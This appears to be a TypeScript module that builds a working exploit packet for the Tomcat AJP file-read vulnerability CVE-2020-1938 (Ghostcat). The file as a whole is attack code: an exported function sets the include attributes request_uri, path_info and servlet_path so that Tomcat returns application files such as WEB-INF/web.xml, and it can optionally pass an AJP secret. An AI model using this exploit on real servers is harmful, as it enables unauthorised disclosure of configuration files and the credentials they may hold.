/**
 * The AJP 1.3 request of CVE-2020-1938: it asks for a page that is not there, and by the attributes of an include has
 * Tomcat hand out a file of the application instead, WEB-INF/web.xml and all.
 */
export const ghostcat = (context: string, file: string, secret?: string): Buffer => {
  const include = (name: string, value: string) => [
    Buffer.of(ATTRIBUTE),
    text(`javax.servlet.include.${name}`),
    text(value),
  ];
  const body = Buffer.concat([
    Buffer.of(FORWARD_REQUEST, GET),
    ...['HTTP/1.1', `${context}/none`, '127.0.0.1', 'client', 'server'].map(text),
    number(80),
    Buffer.of(0),
    number(0),
    ...include('request_uri', '/'),
    ...include('path_info', file),
    ...include('servlet_path', '/'),
    ...(secret === undefined ? [] : [Buffer.of(SECRET), text(secret)]),
    Buffer.of(END),
  ]);
  return Buffer.concat([Buffer.of(0x12, 0x34), number(body.length), body]);
};

const FORWARD_REQUEST = 2;
const GET = 2;
const ATTRIBUTE = 0x0a;
const SECRET = 0x0c;
const END = 0xff;

const number = (value: number): Buffer => Buffer.of(value >> 8, value & 0xff);

/** A length, the bytes, and a zero that the length does not count. */
const text = (value: string): Buffer =>
  Buffer.concat([number(Buffer.byteLength(value)), Buffer.from(value), Buffer.of(0)]);
